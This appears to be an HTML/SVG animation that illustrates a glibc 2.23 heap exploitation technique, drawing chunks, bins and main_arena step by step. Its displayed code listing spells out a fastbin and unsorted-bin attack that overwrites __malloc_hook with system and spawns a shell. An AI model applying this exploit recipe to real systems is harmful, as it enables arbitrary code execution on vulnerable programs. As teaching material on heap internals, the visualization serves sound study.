
An HTML page that plays this animation: 976 by 574 pixels, repeating every 8 s.

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Heap layout</title>
<style>
  html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #fff; }
  svg { display: block; width: 976px; height: 574px; }
  text { font: 10.4px Lato, "Open Sans", sans-serif; fill: #000; white-space: pre; text-rendering: geometricPrecision; }
  .gray { fill: #7f7f7f; }
  .red { fill: #f00; }
  .dots { font-weight: 700; }
  .small { font-size: 7.7px; }
  .hex { font-size: 7.2px; letter-spacing: -.25px; }
  .tight { letter-spacing: -.75px; }
  .bold { font-weight: 700; letter-spacing: -1px; }
  .cjk { font: 11px "Noto Sans CJK SC", "Noto Sans CJK", sans-serif; }
  .code { font: 9.4px "Liberation Mono", monospace; letter-spacing: -.395px; fill: #3c3c3c; }
  .code.on { fill: #ff4038; }
  .box { fill: none; stroke: #111; }
  .wire { fill: none; stroke: #808080; }
  .dash { fill: none; stroke: #8c8c8c; stroke-dasharray: 6 3; }
  .axis { fill: none; stroke: #968b9b; }
</style>
</head>
<body>
<svg viewBox="0 0 976 574">
  <defs>
    <marker id="tip" viewBox="0 0 7 6" refX="7" refY="3" markerWidth="6.5" markerHeight="5.5"
            markerUnits="userSpaceOnUse" orient="auto">
      <path d="M0 0L7 3L0 6z" fill="#767676"/>
    </marker>
  </defs>
</svg>
<script>
const LOOP = 8000;
const STARTS = [0, 500, 3180, 6250];
const CODE = `106  uint8_t* fastbin_victim = malloc(0x60);
111  malloc(0x80);
114  uint8_t* main_arena_use = malloc(0x80);
118  uint8_t* relative_offset_heap = malloc(0x60);

122  free(main_arena_use);
139  uint8_t* fake_libc_chunk = malloc(0x60);
143  long long __malloc_hook = ((long*)fake_libc_chunk)[0] - 0xe8;

149  free(relative_offset_heap);
155  free(fastbin_victim);
201  fastbin_victim[0] = 0x00;

246  long long __malloc_hook_adjust = __malloc_hook - 0x23;
249  int8_t byte1 = (__malloc_hook_adjust) & 0xff;
250  int8_t byte2 = (__malloc_hook_adjust & 0xff00) >> 8;
251  fake_libc_chunk[0] = byte1;
252  fake_libc_chunk[1] = byte2;

260  malloc(0x60);
261  malloc(0x60);
266  uint8_t* malloc_hook_chunk = malloc(0x60);

312  uint8_t* unsorted_bin_ptr = malloc(0x80);
313  malloc(0x30);
317  free(unsorted_bin_ptr);

322  __malloc_hook_adjust = __malloc_hook - 0x10;
323  byte1 = (__malloc_hook_adjust) & 0xff;
324  byte2 = (__malloc_hook_adjust & 0xff00) >> 8;
331  unsorted_bin_ptr[8] = byte1;
334  unsorted_bin_ptr[9] = byte2;
355  malloc(0x80);

357  long long system_addr = (long long)dlsym(RTLD_NEXT, "system");
379  malloc_hook_chunk[19] = system_addr & 0xff;
381  malloc_hook_chunk[20] = (system_addr >> 8) & 0xff;
382  malloc_hook_chunk[21] = (system_addr >> 16) & 0xff;
383  malloc_hook_chunk[22] = (system_addr >> 24) & 0xff;

392  malloc((long long)shell);`.split('\n');
const ACTIVE = [1, 2, 3, 5];

const svg = document.querySelector('svg');

function add(parent, tag, attrs, content = '') {
  const el = document.createElementNS('http://www.w3.org/2000/svg', tag);
  for (const key in attrs) el.setAttribute(key, attrs[key]);
  el.textContent = content;
  return parent.appendChild(el);
}
const text = (g, x, y, str, cls = '', anchor = 'middle') =>
  add(g, 'text', { x, y, class: cls, 'text-anchor': anchor }, str);
const path = (g, d, cls) => add(g, 'path', { d, class: cls });
const arrow = (g, d, cls = 'wire') =>
  add(g, 'path', { d, class: cls, 'marker-end': 'url(#tip)' });

// Both memory columns share one row grid.
const rowY = i => 150.8 + 17.23 * i;

function column(g, x, rows) {
  const top = rowY(rows[0]), bottom = rowY(rows[rows.length - 1]);
  path(g, `M${x} ${top}V${bottom}M${x + 99} ${top}V${bottom}` +
    rows.map(r => `M${x - .5} ${rowY(r)}h100`).join(''), 'box');
}
function cells(g, x, list) {
  for (const [row, str, cls] of list) {
    const dots = str === '....';
    text(g, x, rowY(row) + (dots ? 12.2 : 13.4), str, dots ? 'dots' : cls);
  }
}
function labels(g, x, list, cls) {
  for (const [row, str] of list) {
    const y = rowY(row) + 8.9;
    text(g, x, y + 3, str, cls, 'end');
    arrow(g, `M${x + 6} ${y}H${x + 25.5}`);
  }
}

const lines = CODE.map((str, i) =>
  text(svg, 613.2, 15 + 13.675 * i, str, 'code', 'start'));
const stages = STARTS.map(() => add(svg, 'g', {}));

function drawChunks() {
  const [a, b, c, d] = stages;
  const x = 441.7, mid = 491, end = 416;

  column(a, x, [3, 4, 5, 6, 7, 8, 9, 12]);
  cells(a, mid, [[3, 'prev_size', 'gray'], [4, '0x71'], [5, 'fd', 'gray'], [6, '....'],
    [7, 'prev_size', 'gray'], [8, '0x91'], [9, '....']]);
  labels(a, end, [[3, 'victim_chunk'], [5, 'fastbin_victim'], [7, 'align_chunk']]);

  column(b, x, [11, 12, 13, 14, 16]);
  cells(b, mid, [[11, 'prev_size', 'gray'], [12, '0x91'], [14, '....']]);
  labels(b, end, [[11, 'main_arena_chunk'], [13, 'main_arena_use']]);
  text(b, 441, 363, '{main_arena_chunk | 0x00 = 0}', 'gray', 'end');

  column(c, x, [15, 16, 17, 18, 20]);
  cells(c, mid, [[15, 'prev_size', 'gray'], [16, '0x71'], [17, 'fd', 'gray'], [18, '....']]);
  labels(c, end, [[15, 'relative_chunk'], [17, 'relative_offset_heap']]);

  cells(d, mid, [[13, 'unsorted bin', 'red']]);
  arrow(d, 'M441 384C432 376 424 374 408 373.6C370 373 340 373 310 371C285 369 265 367 246 366.8');
}

function hexRow(g, row, parts) {
  const el = text(g, 196, rowY(row) + 11.6, '', 'hex');
  for (const [str, cls] of parts) add(el, 'tspan', { class: 'hex ' + cls }, str);
}

function drawArena(g) {
  column(g, 146.5, [0, 2, 3, 4, 5, 6, 7, 8, 9, 10, 12, 13, 14, 15, 16, 18, 19, 20, 21, 22, 24]);
  cells(g, 196, [[0, '....'], [10, '....'], [16, '....'], [22, '....']]);
  cells(g, 194, [0, 1, 2, 3].flatMap(i => [
    [12 + i, `bins[${i}]`, 'gray'], [18 + i, `bins[${16 + i}]`, 'gray']]));
  const X = n => 'X'.repeat(n), O = n => '0'.repeat(n);
  hexRow(g, 2, [['0x', ''], [X(10), 'tight'], [X(6), 'bold']]);
  hexRow(g, 3, [['0x', ''], [X(10), 'bold'], ['7f0000', 'red']]);
  hexRow(g, 4, [['0x', ''], [O(10), 'red'], [O(6), '']]);

  labels(g, 120, [[0, '&unsafe_state'], [3, '&severity_list'], [5, '&__memalign_hook'],
    [6, '&__realloc_hook'], [7, '&__malloc_hook'], [9, '[ glibc_2.23] &main_arena'],
    [12, 'unsorted bin'], [18, '&smallbin[7]']], 'gray');
  text(g, 118, 382.5, '(bin_at(1))', 'gray', 'end');
  text(g, 122, 485.5, '(bin_at(9))', 'gray', 'end');

  text(g, 152, 136, '低', 'cjk gray');
  text(g, 240, 136, '高', 'cjk gray');
  arrow(g, 'M146 142H246', 'axis');
  text(g, 263, 160.5, '低', 'cjk gray');
  text(g, 263, 184, '高', 'cjk gray');
  arrow(g, 'M253.5 151V186', 'axis');

  path(g, 'M246 271.5H265M246 306.5H268M246 357.5H268M246 461.5H272', 'dash');
  path(g, 'M254.5 271.5V461M264.5 306.5V461', 'dash');
  for (const [x, y, str] of [[260.5, 289, '0xe8'], [269, 333, '0x58'], [269, 403, '0x80']]) {
    add(g, 'rect', { x: x - 10.5, y: y - 6, width: 21, height: 12, fill: '#fff' });
    text(g, x, y + 4, str);
  }
}

function drawBinList(g) {
  text(g, 358, 14.5, 'unsorted bin');
  path(g, 'M316.5 42.3h77v17.2h-77zM316.5 76.5h77v17.2h-77z', 'box');
  text(g, 355.5, 87, 'main_arena_chunk', 'small');
  arrow(g, 'M348 60V76');
  arrow(g, 'M361.5 76V60');
  arrow(g, 'M348 94C345 110 325 115 314 103C300 88 300 48 314 32C325 20 345 26 348 42');
  arrow(g, 'M362 42C365 26 387 20 397 32C412 48 412 88 397 103C386 115 366 110 362 94');
  for (const [x, y, str] of [[374, 40, 'bk'], [338, 70.5, 'fd'], [375, 70.5, 'bk'], [338, 105, 'fd']])
    text(g, x, y, str, 'gray');
}

drawChunks();
drawArena(stages[3]);
drawBinList(stages[3]);
const fd = add(svg, 'g', {});
cells(fd, 491, [[13, 'fd', 'gray']]);

let shown = -1;
function show(now) {
  const t = now % LOOP;
  const step = STARTS.filter(s => s <= t).length - 1;
  if (step !== shown) {
    shown = step;
    stages.forEach((g, i) => g.style.display = i <= step ? '' : 'none');
    fd.style.display = step === 1 || step === 2 ? '' : 'none';
    lines.forEach((el, i) => el.classList.toggle('on', i === ACTIVE[step]));
  }
}
const begin = performance.now();
function tick(now) {
  show(Math.max(0, now - begin));
  requestAnimationFrame(tick);
}
show(0);
requestAnimationFrame(tick);
</script>
</body>
</html>
```
